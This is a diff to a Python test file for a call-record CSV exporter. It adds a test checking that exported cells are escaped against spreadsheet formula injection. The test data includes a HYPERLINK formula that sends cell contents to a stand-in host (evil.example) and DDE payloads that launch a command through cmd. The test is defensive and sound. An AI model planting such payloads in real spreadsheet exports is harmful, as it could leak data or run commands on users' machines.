@@ -526,8 +526,8 @@ def test_export_csv_one_row_per_call(
         "job_id": "AJ_a",
         "room": "call-_+15105550101_a1",
         "direction": "inbound",
-        "remote_number": "+15105550101",
-        "local_number": "+17075550000",
+        "remote_number": "'+15105550101",  # text in a spreadsheet, not 1.51E+10
+        "local_number": "'+17075550000",
         "trunk_id": "ST_in",
         "agent_name": "acme-agent",
         "started_at": "2024-05-01T07:30:00.000Z",
@@ -553,6 +553,42 @@ def test_export_csv_one_row_per_call(
     assert (b["answered_at"], b["talk_seconds"], b["sip_status_code"]) == ("", "", "480")
     assert (b["llm_ttft_p50_ms"], b["e2e_p50_ms"]) == ("", "")
     assert datetime.fromisoformat(a["started_at"]).timestamp() == call_a().started_at
+
+
+FORMULAS = {
+    "call_id": '=HYPERLINK("https://evil.example/?"&A1,"open")',
+    "room": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "trunk_id": "-2+3+cmd|' /C calc'!A0",
+    "agent_name": "\t=1+1",
+    "sip_status": "\r=1+1",
+    "error": "  =1+1",  # blanks first: some programs trim them
+}
+
+
+def starts_a_formula(cell: str) -> bool:
+    return cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in ("=", "+", "-", "@")
+
+
+def test_export_csv_cells_a_spreadsheet_would_evaluate_stay_text(
+    database: str, record_store: CallStore, capsys: pytest.CaptureFixture[str]
+) -> None:
+    # A `;` splitting spreadsheet would start a cell after the `;`, unless it is quoted.
+    inner = {"transfer_to": "sip:x;=1+1", "record_id": "rec-x"}
+    hostile = CallRecord(**{**call_b().__dict__, **FORMULAS, **inner})
+    record_store.save(hostile)
+
+    result = run(capsys, "export", "--format", "csv")
+
+    assert result.code == 0, result.err
+    (row,) = csv.DictReader(io.StringIO(result.out))
+    for column, payload in FORMULAS.items():
+        assert row[column] == "'" + payload  # the value, marked as text
+    assert row["transfer_to"] == "sip:x;=1+1"
+    assert row["remote_number"] == "'+15105550102"
+    assert (row["duration_seconds"], row["sip_status_code"]) == ("30.0", "480")  # numbers
+    cells = [cell for line in csv.reader(io.StringIO(result.out)) for cell in line]
+    assert not [cell for cell in cells if starts_a_formula(cell)]
+    assert '"sip:x;=1+1"' in result.out  # quoted: a `;` cannot split it
 
 
 def test_export_jsonl_round_trips(
